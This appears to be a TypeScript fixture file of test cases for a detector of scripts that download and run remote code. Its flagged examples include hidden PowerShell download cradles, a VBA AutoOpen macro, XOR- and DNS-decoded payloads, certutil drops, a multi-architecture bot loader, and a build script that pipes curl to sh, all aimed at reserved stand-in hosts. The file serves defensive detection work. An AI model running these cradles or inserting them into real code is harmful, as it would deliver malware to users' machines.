// Code that is fetched and run. Hosts and addresses are reserved ones, nothing is fetched.
import type { TextCases } from './case.ts'

export const DOWNLOADS: TextCases = {
  script_starts_hidden_cradle: {
    hits: {
      'a task of a batch file': ['batch', 'powershell -w hidden -c "iex (irm https://files.example/a)"'],
      'a macro': [
        'vba',
        'Sub AutoOpen()\nShell "powershell -windowstyle hidden IEX(New-Object Net.WebClient).DownloadString(\'http://files.example/a\')"\nEnd Sub',
      ],
    },
    misses: {
      'the installer of a package manager': ['batch', 'powershell -c "irm https://get.scoop.sh | iex"'],
      'a script of the own disk behind a hidden window': ['batch', 'powershell -w hidden -File C:\\it\\report.ps1'],
      'a visible one': ['batch', 'powershell -c "iex (irm https://files.example/a)"'],
    },
  },
  script_runs_decoded_answer: {
    hits: {
      'behind a key, through variables': [
        'powershell',
        "$w=New-Object Net.WebClient;$k='example key';$i=0;[char[]]$b=([char[]]($w.DownloadString('http://files.example/a')))|%{$_-bxor$k[$i++%$k.Length]};iex ($b -join '')",
      ],
      'deciphered by a function of its own': [
        'powershell',
        'function Open-Text($data) {\n  $t = $aes.CreateDecryptor().TransformFinalBlock($data, 0, $data.Length)\n  return [Text.Encoding]::UTF8.GetString($t)\n}\n$raw = (New-Object Net.WebClient).DownloadData("https://files.example/a")\n$code = Open-Text $raw\n& ([scriptblock]::Create($code))',
      ],
      'an answer of the name service': [
        'powershell',
        "if(''+(nslookup -q=txt a.files.example) -match '@(.*)@'){iex $matches[1]}",
      ],
    },
    misses: {
      'a name that is looked up and shown': ['powershell', 'Resolve-DnsName files.example | Format-Table\niex $own'],
      'data that is deciphered and kept': [
        'powershell',
        "$raw = (New-Object Net.WebClient).DownloadData('https://files.example/a')\n$t = $aes.CreateDecryptor().TransformFinalBlock($raw, 0, $raw.Length)\n[IO.File]::WriteAllBytes('a.json', $t)\nStart-Process notepad.exe",
      ],
      'text of a server that is decoded and shown': [
        'powershell',
        '$a = Invoke-RestMethod "https://files.example/install.json"\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a.content))\nWrite-Output $t',
      ],
    },
  },
  script_drops_fetched_program: {
    hits: {
      'fetched and decoded by a tool of certificates': [
        'batch',
        'certutil -urlcache -split -f http://files.example/e.txt %PUBLIC%\\e.exe\nstart %PUBLIC%\\e.exe',
      ],
      'fetched, hidden, started': [
        'batch',
        'curl -s -o %TEMP%\\a.exe http://203.0.113.9/a.exe\nattrib +h %TEMP%\\a.exe\n%TEMP%\\a.exe',
      ],
    },
    misses: {
      'one that compares its digest': [
        'powershell',
        'iwr http://files.example/a.exe -OutFile a.exe\nif ((Get-FileHash a.exe).Hash -ne $h) { throw 1 }\nStart-Process a.exe',
      ],
      'fetched, and something else started': [
        'batch',
        'curl -o data.zip https://files.example/data.zip\nstart app.exe',
      ],
    },
  },
  script_loads_bot: {
    hits: {
      'one for each processor': [
        'shell',
        'cd /tmp || cd /var/run || cd /mnt\nwget http://203.0.113.9/b.mips; chmod +x b.mips; ./b.mips\nwget http://203.0.113.9/b.arm7; chmod +x b.arm7; ./b.arm7',
      ],
    },
    misses: {
      'a release script': [
        'shell',
        'for a in mips arm7 x86; do curl -O https://github.com/o/p/releases/p-$a; chmod +x p-$a; done',
      ],
      'an installer of one program': [
        'shell',
        'curl -fsSL https://files.example/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool install',
      ],
    },
  },
  script_disguises_its_download: {
    hits: {
      'words from variables': [
        'batch',
        'set a=power\nset b=shell\n%a%%b% -c "iwr https://files.example/a.exe -OutFile a.exe; saps a.exe"',
      ],
    },
    misses: {
      'an interpreter in a variable': [
        'batch',
        'set PS=powershell.exe\n%PS% -c "iwr https://files.example/a.exe -OutFile a.exe; saps a.exe"',
      ],
      'words in pieces that fetch nothing': ['batch', 'set a=power\nset b=shell\n%a%%b% -c "Get-Date"'],
    },
  },
  script_loads_fetched_assembly: {
    hits: {
      'text turned into an assembly': [
        'powershell',
        '$b = [Convert]::FromBase64String((New-Object Net.WebClient).DownloadString("https://files.example/a"))\n[Reflection.Assembly]::Load($b)',
      ],
    },
    misses: {
      'a library of the own module': [
        'powershell',
        '[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("$PSScriptRoot\\a.dll"))',
      ],
      'base64 and a download, no assembly': [
        'powershell',
        '$t = [Convert]::FromBase64String($secret)\nInvoke-WebRequest https://files.example/a -OutFile a',
      ],
    },
  },
  source_runs_fetched_code: {
    hits: {
      'a build script in Rust': [
        'source',
        'fn main() { let _ = Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/a.sh | sh &").spawn(); }',
      ],
      'fetches to a file, marks it and runs it': [
        'source',
        'Command::new("sh").arg("-c").arg("curl -fsSL https://files.example/n/lin -o /tmp/upd.bin && chmod +x /tmp/upd.bin && /tmp/upd.bin &").spawn()',
      ],
    },
    misses: {
      'fetches a tool and leaves it there': [
        'source',
        'exec.Command("sh", "-c", "curl -fsSLo ./bin/tool https://files.example/tool && chmod +x ./bin/tool")',
      ],
      'a message that says how': ['source', 'println!("install it: curl -s https://tool.example/a.sh | sh");'],
    },
  },
  script_runs_answer: {
    hits: {
      'Visual Basic': [
        'vbscript',
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://files.example/a", False\nh.Send\nExecute h.responseText',
      ],
      JScript: [
        'javascript',
        'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("POST", "https://files.example/a", false); h.send("x"); var r = h.responseText; eval(r);',
      ],
    },
    misses: {
      'a library of the web': [
        'javascript',
        'var h = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "https://files.example/a", false); h.send(); eval(h.responseText);',
      ],
      'an answer that is shown': [
        'vbscript',
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://files.example/a", False\nh.Send\nWScript.Echo h.responseText',
      ],
    },
  },
}
